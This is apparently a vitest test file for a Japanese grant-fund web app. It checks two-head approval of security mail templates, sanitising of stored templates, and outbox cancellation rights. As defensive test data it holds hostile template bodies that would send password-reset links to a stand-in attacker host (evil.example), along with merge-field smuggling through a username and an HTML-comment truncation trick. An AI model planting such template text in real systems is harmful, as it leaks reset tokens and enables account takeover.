import { beforeEach, describe, expect, it } from 'vitest';
import { bodyWithSecret } from '../../api/mail/secret-mail.ts';
import { raiseAlert } from '../../api/ops/alerts/raise.ts';
import { neededFor } from '../../domain/mail/merge-fields.ts';
import { securityMails, securityPurposes } from '../../domain/mail/security-mails.ts';
import { checkMailTemplates } from '../../resources/messages/server/mail-templates/check.ts';
import { onEitherEngine } from '../support/app.ts';
import type { AnyRow } from '../support/rows.ts';

const roles = ['fund_staff', 'fund_manager', 'fund_department_head'] as const;

onEitherEngine('security mails', (app) => {
  const db = () => app.engine.db;
  const mails = () => db().selectFrom('outbox').selectAll().orderBy('id').execute();
  const template = (purpose: string) =>
    db()
      .selectFrom('mail_templates')
      .selectAll()
      .where('purpose', '=', purpose as never)
      .executeTakeFirstOrThrow();
  const word = (purpose: string, text: AnyRow) =>
    db()
      .updateTable('mail_templates')
      .set(text)
      .where('purpose', '=', purpose as never)
      .execute();
  const alertsOf = (kind: string) =>
    db()
      .selectFrom('alerts')
      .selectAll()
      .where('kind', '=', kind as never)
      .orderBy('id')
      .execute();
  const at = (id: number) => `/mail_templates/${id}`;

  beforeEach(async () => {
    await db().deleteFrom('outbox').execute();
  });

  describe('are worded by two heads', () => {
    const changed = { subject: '【基金】パスワードのご案内', body: '{{recipientName}} 様\n\n次のページです。\n\n{{resetUrl}}\n', isHtml: false };

    it('so that a clerk cannot take an account over', async () => {
      const { id, body: before } = await template('password_reset');
      const hostile = { body: '<p><a href="https://evil.example/?u={{resetUrl}}">パスワードを設定する</a></p>', isHtml: true };
      expect((await app.call('fund_staff', 'PUT', at(id), hostile)).status).toBe(403);
      expect((await app.call('fund_staff', 'POST', `${at(id)}/propose`, { ...changed, ...hostile })).status).toBe(403);
      expect((await app.call('fund_manager', 'POST', `${at(id)}/propose`, { ...changed, ...hostile })).fields?.body).toContain('単独で');
      expect((await template('password_reset')).body).toBe(before);
    });

    it.each(securityPurposes)('%s is neither edited, deleted, entered anew nor made of another template', async (purpose) => {
      const { id, name, subject, body } = await template(purpose);
      const other = await app.call('fund_staff', 'POST', '/mail_templates', { name: '別のひな形', purpose, subject, body });
      expect([other.status, other.error]).toEqual([409, expect.stringContaining('文面の変更を申し出る')]);
      for (const role of roles) {
        expect((await app.call(role, 'PUT', at(id), { name: `${name}2` })).status).toBe(403);
        expect((await app.call(role, 'DELETE', at(id))).status).toBe(403);
      }
      const custom = await template('custom');
      expect((await app.call('fund_manager', 'PUT', at(custom.id), { purpose })).status).toBe(422);
      expect(await template(purpose)).toMatchObject({ name, subject, body, purpose });
    });

    it('whose proposal changes nothing until another head approves it, and all heads see the difference each time', async () => {
      const { id, body: before } = await template('password_reset');
      // Whoever has worded the template before, as heads and clerks once could, may approve what another proposes today.
      const head = await app.engine.db
        .selectFrom('users')
        .select('id')
        .where('email', '=', 'fund_department_head@example.jp')
        .executeTakeFirstOrThrow();
      const line = { action: 'update', resource: 'mail_templates', recordId: id, userId: head.id, summary: '変更しました' } as const;
      await app.engine.db
        .insertInto('audit_logs')
        .values({ ...line, createdAt: '2026-01-05', updatedAt: '2026-01-05' })
        .execute();
      expect((await app.call('fund_manager', 'POST', `${at(id)}/propose`, changed)).status).toBe(200);
      expect(await template('password_reset')).toMatchObject({ body: before, proposedBody: changed.body.trim() });
      const own = await app.call('fund_manager', 'POST', `${at(id)}/approve`);
      expect([own.status, own.code]).toEqual([409, 'same_person']);
      expect((await app.call('fund_staff', 'POST', `${at(id)}/approve`)).status).toBe(403);
      // Nobody writes over what waits, and is then taken for its author.
      expect((await app.call('fund_department_head', 'POST', `${at(id)}/propose`, changed)).status).toBe(409);
      expect((await app.call('fund_department_head', 'POST', `${at(id)}/approve`)).status).toBe(200);
      expect(await template('password_reset')).toMatchObject({
        subject: changed.subject,
        body: changed.body.trim(),
        proposedById: null,
        proposedBody: null,
      });

      const told = await alertsOf('mailText');
      expect(told.map(({ recordId }) => recordId)).toEqual([id, id]);
      for (const { details } of told) expect(details).toContain('－ このページは30分で使えなくなり、一度だけ使えます。\n');
      expect(told[1]?.details).toContain('＋ 次のページです。');
      const heads = (await mails()).filter(({ subject }) => subject.includes('メールの文面の変更')).map(({ recipientAddress }) => recipientAddress);
      for (const head of ['fund_manager', 'fund_department_head']) expect(heads.filter((one) => one === `${head}@example.jp`)).toHaveLength(2);
      await app.call(null, 'POST', '/password-reset', { email: 'recipient@example.jp' });
      const sent = (await mails()).find(({ recipientAddress }) => recipientAddress === 'recipient@example.jp');
      expect(sent?.body).toMatch(/\n\nhttp\S+#token=\S+\n\n―― このメールのリンクは/);
      expect((await app.call('fund_manager', 'GET', `${at(id)}/versions`)).status).toBe(200);
    });

    it('who may also let it be', async () => {
      const { id, body } = await template('alert');
      const text = { subject: '件名', body: '{{alertText}}\n{{alertTime}}\n{{alertUrl}}', isHtml: false };
      expect((await app.call('fund_manager', 'POST', `${at(id)}/propose`, { ...text, body: '異常はありません。' })).fields?.body).toContain(
        '{{alertText}}',
      );
      const same = await template('alert');
      const nothing = await app.call('fund_manager', 'POST', `${at(id)}/propose`, { subject: same.subject, body: same.body, isHtml: false });
      expect(nothing.fields?.body).toContain('同じです');
      await app.call('fund_manager', 'POST', `${at(id)}/propose`, text);
      expect((await app.call('fund_department_head', 'POST', `${at(id)}/withdraw`)).status).toBe(200);
      expect(await template('alert')).toMatchObject({ body, proposedById: null, proposedSubject: null, proposedAt: null });
    });
  });

  describe('whose kept text is bad', () => {
    it('leave with the first text, and the heads hear of it once', async () => {
      const kept = await template('password_reset');
      await word('password_reset', { body: '<a href="https://evil.example/?u={{resetUrl}}">開く</a>', isHtml: 1, version: 90 });
      await app.call(null, 'POST', '/password-reset', { email: 'recipient2@example.jp' });
      const [mail] = await mails();
      expect(mail?.isHtml).toBe(0);
      expect(mail?.body).not.toContain('evil');
      expect(mail?.body).toMatch(/\n\nhttp\S+\/user-password-reset#token=\S+\n\n/);
      for (let start = 0; start < 2; start++) await checkMailTemplates(app.services);
      const told = (await alertsOf('mailText')).filter(({ summary }) => summary.includes('使えないため'));
      expect(told.map(({ recordId, details }) => [recordId, details?.includes('単独で')])).toEqual([[kept.id, true]]);
      await word('password_reset', { body: kept.body, isHtml: kept.isHtml, version: kept.version });
    });

    it('never give their secret to a name that somebody typed', async () => {
      await db().updateTable('users').set({ username: '{{resetUrl}}' }).where('email', '=', 'recipient3@example.jp').execute();
      await word('password_reset', { body: '{{recipientName}} 様 https://evil.example/?u={{recipientName}}\n{{resetUrl}}' });
      await app.call(null, 'POST', '/password-reset', { email: 'recipient3@example.jp' });
      const [mail] = await mails();
      expect(mail?.body.match(/token=/g)).toHaveLength(1);
      expect(mail?.body).toContain('?u=｛｛resetUrl}}');
      await db().updateTable('users').set({ username: '受取 三郎' }).where('email', '=', 'recipient3@example.jp').execute();
    });

    it.each(securityPurposes)('of %s say what they are sent for all the same, and end with the system’s own line', async (purpose) => {
      const { subject, body, isHtml } = await template(purpose);
      await word(purpose, { subject: '件名', body: '何もしていただく必要はありません。', isHtml: 0 });
      const { draftSecurityMails } = await import('../../api/mail/security-mail.ts');
      const values = Object.fromEntries(neededFor(purpose).map((name) => [name, `〔${name}〕`]));
      const draft = () =>
        app.engine.transaction((trx) => draftSecurityMails(trx, app.services, purpose, [{ name: '宛先', address: 'a@example.jp' }], values));
      const [silenced] = await draft();
      for (const name of neededFor(purpose)) expect(silenced?.body).toContain(`〔${name}〕`);
      expect([silenced?.isSecurity, silenced?.body.endsWith(`―― ${securityMails[purpose]}`)]).toEqual([true, true]);
      await word(purpose, {
        body: `<pre>${neededFor(purpose)
          .map((name) => `<p>{{${name}}}</p>`)
          .join('')}<!--`,
        isHtml: 1,
      });
      const [html] = await draft();
      expect(html?.body.endsWith(`</pre><hr /><p>${securityMails[purpose]}</p>`)).toBe(true);
      await word(purpose, { subject, body, isHtml });
    });

    it('and waiting ones from before are opened safely', () => {
      const secret = app.services.sealer.seal('https://a.example/#token=live', { table: 'outbox', column: 'secret', row: 1 });
      const row = { id: 1, isHtml: 1, secret, body: '<a href="https://evil.example/?u={{resetUrl}}">開く</a>' };
      expect(bodyWithSecret(row, app.services.sealer)).toBe(
        '<p><a href="https://a.example/#token=live" rel="noopener noreferrer">https://a.example/#token=live</a></p><a href="https://evil.example/?u=">開く</a>',
      );
    });
  });

  it('that invite many keep the same rules in whatever is written', async () => {
    const [{ id } = { id: 0 }] = await db().selectFrom('applications').select('id').where('contactUserId', 'is not', null).limit(1).execute();
    const letter = { applicationId: [id], subject: 'ご案内', isHtml: true };
    const send = (as: string, body: string) => app.call(as, 'POST', '/adoptions/email', { ...letter, body });
    const hostile = '<p><a href="https://evil.example/?u=&#123;&#123;resetUrl}}">開く</a></p>';
    expect((await send('fund_manager', hostile)).fields?.body).toContain('単独で');
    expect((await send('fund_manager', '<p>{{resetUrl}}</p><p>{{resetUrl}}</p>')).fields?.body).toContain('一度だけ');
    expect(await mails()).toEqual([]);
  });

  describe('in the outbox', () => {
    const waiting = async () => {
      await app.engine.transaction((trx) => raiseAlert(trx, app.services, { kind: 'other', summary: `出来事 ${Math.random()}` }));
      await app.call(null, 'POST', '/password-reset', { email: 'recipient@example.jp' });
      return mails();
    };

    const cancel = (as: string, id?: number) => app.call(as, 'POST', `/admin/outbox/${id}/${as === 'fund_staff' ? 'cancelOwn' : 'cancel'}`);

    it('are cancelled by nobody', async () => {
      const all = await waiting();
      expect(all.length).toBeGreaterThan(2);
      for (const { id } of all)
        for (const role of roles) {
          const { status, code } = await cancel(role, id);
          expect([status, code]).toEqual([409, 'wrong_state']);
        }
      const { data } = await app.call('fund_manager', 'GET', `/admin/outbox/${all[0]?.id}`);
      expect([data.isSecurity, data.abilities.includes('cancel'), 'causedById' in data]).toEqual([true, false, false]);
      expect((await mails()).map(({ status }) => status)).toEqual(all.map(() => 'waiting'));
    });

    it('leave the others to whoever caused them, and to the heads, by name in the log', async () => {
      const [{ id: applicationId } = { id: 0 }] = await db()
        .selectFrom('applications')
        .select('id')
        .where('contactUserId', 'is not', null)
        .where('grantNumber', 'is not', null)
        .limit(1)
        .execute();
      const send = (as: string) => app.call(as, 'POST', '/adoptions/email', { applicationId, subject: 'ご連絡', body: `本文 ${as}`, isHtml: false });
      for (const as of ['fund_staff', 'fund_manager', 'fund_manager']) expect((await send(as)).status).toBe(200);
      const [own, others, again] = await mails();
      for (const [as, offered] of [
        ['fund_staff', [['cancelOwn'], [], []]],
        ['fund_manager', [['cancel'], ['cancel'], ['cancel']]],
        ['director', [[], [], []]],
      ] as const) {
        const { data } = await app.call(as, 'GET', '/admin/outbox?sortBy=id&sortOrder=asc');
        const abilities = data.outbox.map((row: AnyRow) => row.abilities.filter((one: string) => one.startsWith('cancel')));
        expect([as, abilities]).toEqual([as, offered]);
      }
      expect(await cancel('fund_staff', others?.id)).toMatchObject({ status: 409, code: 'wrong_state' });
      expect((await app.call('fund_staff', 'POST', `/admin/outbox/${others?.id}/cancel`)).status).toBe(403);
      expect((await cancel('fund_staff', own?.id)).status).toBe(200);
      expect((await cancel('fund_department_head', again?.id)).status).toBe(200);
      expect((await mails()).map(({ status }) => status)).toEqual(['cancelled', 'waiting', 'cancelled']);
      const log = await db()
        .selectFrom('audit_logs')
        .select(['userName', 'summary'])
        .where('resource', '=', 'outbox')
        .where('recordId', 'in', [own?.id ?? 0, again?.id ?? 0])
        .execute();
      expect(log.map(({ summary }) => summary)).toEqual([0, 1].map(() => expect.stringContaining('送信を取り消す')));
    });
  });
});
